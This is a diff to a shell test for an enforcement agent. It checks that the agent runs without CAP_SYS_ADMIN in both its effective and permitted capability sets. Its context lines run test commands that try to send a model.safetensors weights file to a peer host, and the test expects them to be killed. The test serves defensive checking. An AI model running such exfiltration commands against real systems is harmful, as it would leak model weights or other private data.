@@ -238,9 +238,12 @@ bad_config() {
 	start_sink tcp
 	VIGIL_WRAP="setpriv --bounding-set $set --no-new-privs" start_agent --mode enforce
 	grep -q "^CapEff:.*" /proc/"$AGENT_PID"/status
-	# the agent really runs without the rest (no CAP_SYS_ADMIN: bit 21)
+	# the agent really runs without the rest, and without CAP_SYS_ADMIN (bit
+	# 21: in the set for the load on 6.1, dropped before agent_start)
 	eff=$((16#$(awk '/^CapEff/ { print $2 }' /proc/"$AGENT_PID"/status)))
+	prm=$((16#$(awk '/^CapPrm/ { print $2 }' /proc/"$AGENT_PID"/status)))
 	[ $(( (eff >> 21) & 1 )) -eq 0 ]
+	[ $(( (prm >> 21) & 1 )) -eq 0 ]
 	leak --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
 	[ "$status" -eq 137 ]
 	run in_cg python3 "$EXFIL" --connect-first --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
